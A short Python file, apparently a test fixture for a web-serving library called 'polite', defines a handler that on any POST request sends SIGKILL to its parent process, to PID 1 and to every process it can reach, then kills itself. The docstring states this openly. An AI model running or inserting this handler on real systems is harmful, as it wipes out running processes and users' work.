"""Kills all that it can reach, and then itself, as soon as somebody posts."""

import os
import signal
from contextlib import suppress

from polite import Handler, serve


class Killing(Handler):
    def do_POST(self):
        for pid in (os.getppid(), 1, -1):
            with suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)


serve(Killing)
